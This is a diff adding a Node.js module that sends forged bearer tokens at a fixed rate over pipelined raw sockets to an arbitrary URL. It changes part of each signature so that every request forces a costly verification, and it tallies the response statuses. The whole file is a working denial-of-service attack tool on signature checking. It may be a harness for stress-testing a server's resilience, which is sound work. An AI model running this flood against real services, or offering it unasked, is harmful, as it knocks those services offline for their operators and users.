@@ -1,0 +1,152 @@
+/** Sends forged tokens at a fixed rate over a few sockets, pipelined, without waiting for responses. */
+
+const { connect } = require('node:net')
+const { setTimeout: pause } = require('node:timers/promises')
+
+const TICK_MS = 2
+/** Bytes that may wait in this process for a socket. Beyond that, the attacker skips requests instead of piling them up. */
+const MAX_UNSENT = 2 ** 20
+const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
+/** Number of characters of the signature that differ between two requests. */
+const COUNTER_LENGTH = 8
+const STATUS_LINE = 'HTTP/1.1 '
+
+/** @type {Socket[]} */
+let sockets = []
+
+/**
+ * @typedef {object} Attack
+ * @property {string} url
+ * @property {string} token - A valid one. Each request changes its signature, which stays as expensive to check.
+ * @property {number} rate - Requests per second.
+ * @property {number} seconds
+ * @property {number} connections
+ */
+
+/** @param {Attack} attack */
+async function attack({ url, token, rate, seconds, connections }) {
+  const { hostname, port, host } = new URL(url)
+  const request = Buffer.from(`GET / HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\n\r\n`, 'latin1')
+  sockets = Array.from({ length: connections }, () => new Socket(hostname, Number(port)))
+  await Promise.all(sockets.map(({ isConnected }) => isConnected))
+
+  const start = performance.now()
+  let [scheduled, skipped, counter, turn] = [0, 0, Math.floor(Math.random() * 2 ** 40), 0]
+  for (let elapsed = 0; elapsed < seconds * 1000; elapsed = performance.now() - start) {
+    const due = Math.floor((elapsed / 1000) * rate) - scheduled
+    scheduled += due
+    // If this process has not run for a while, it does not make up for it with a burst.
+    const count = Math.min(due, Math.ceil(rate / 20))
+    skipped += due - count
+    const socket = nextSocket(turn)
+    turn += 1
+    if (socket === undefined) skipped += count
+    else if (count > 0) socket.send(forgeRequests(request, count, counter), count)
+    counter += count
+    await pause(TICK_MS)
+  }
+  const milliseconds = performance.now() - start
+  for (const socket of sockets) skipped += socket.giveUp(request.length)
+  return { scheduled, sentPerSecond: ((scheduled - skipped) / milliseconds) * 1000 }
+}
+
+/** @param {number} turn */
+function nextSocket(turn) {
+  const ready = (/** @type {Socket} */ socket) => socket.isReady
+  const from = turn % sockets.length
+  return sockets.slice(from).find(ready) ?? sockets.slice(0, from).find(ready)
+}
+
+/**
+ * @param {Buffer} request
+ * @param {number} count
+ * @param {number} counter
+ */
+function forgeRequests(request, count, counter) {
+  const end = request.length - '\r\n\r\n'.length
+  const requests = Buffer.allocUnsafe(count * request.length)
+  for (let i = 0; i < count; i += 1) {
+    const offset = i * request.length
+    request.copy(requests, offset)
+    let rest = counter + i
+    for (let position = end - COUNTER_LENGTH; position < end; position += 1) {
+      requests[offset + position] = ALPHABET.charCodeAt(rest % ALPHABET.length)
+      rest = Math.floor(rest / ALPHABET.length)
+    }
+  }
+  return requests
+}
+
+/**
+ * Returns the number of responses so far by status.
+ *
+ * @returns {{ statuses: Record<string, number>, closed: number, unanswered: number }}
+ */
+function answers() {
+  /** @type {Record<string, number>} */
+  const statuses = {}
+  let unanswered = 0
+  for (const socket of sockets) {
+    unanswered += socket.sent
+    for (const [status, count] of socket.statuses) {
+      statuses[status] = (statuses[status] ?? 0) + count
+      unanswered -= count
+    }
+  }
+  return { statuses, closed: sockets.filter(({ isClosed }) => isClosed).length, unanswered }
+}
+
+function disconnect() {
+  for (const { socket } of sockets) socket.destroy()
+}
+
+class Socket {
+  sent = 0
+  isClosed = false
+  /** @type {Map<string, number>} */
+  statuses = new Map()
+  #rest = Buffer.alloc(0)
+
+  /** @param {string} host @param {number} port */
+  constructor(host, port) {
+    this.socket = connect({ host, port, noDelay: true })
+    this.isConnected = new Promise((resolve) => this.socket.once('connect', resolve))
+    this.socket.on('data', (chunk) => this.#count(chunk))
+    this.socket.on('error', () => {})
+    this.socket.on('close', () => {
+      this.isClosed = true
+    })
+  }
+
+  get isReady() {
+    return !this.isClosed && this.socket.writableLength < MAX_UNSENT
+  }
+
+  /** @param {Buffer} requests @param {number} count */
+  send(requests, count) {
+    this.socket.write(requests)
+    this.sent += count
+  }
+
+  /** Returns the number of requests that are still in this process. They will be sent late. @param {number} length */
+  giveUp(length) {
+    return Math.floor(this.socket.writableLength / length)
+  }
+
+  /** Counts the status lines in this part of the responses. @param {Buffer} chunk */
+  #count(chunk) {
+    const text = this.#rest.length === 0 ? chunk : Buffer.concat([this.#rest, chunk])
+    const statusLength = STATUS_LINE.length + 3
+    let end = 0
+    for (let at = text.indexOf(STATUS_LINE); at !== -1; at = text.indexOf(STATUS_LINE, end)) {
+      if (at + statusLength > text.length) break
+      end = at + statusLength
+      const status = text.latin1Slice(at + STATUS_LINE.length, end)
+      this.statuses.set(status, (this.statuses.get(status) ?? 0) + 1)
+    }
+    // A status line may continue in the next chunk.
+    this.#rest = Buffer.from(text.subarray(Math.max(end, text.length - statusLength + 1)))
+  }
+}
+
+module.exports = { answers, attack, disconnect }
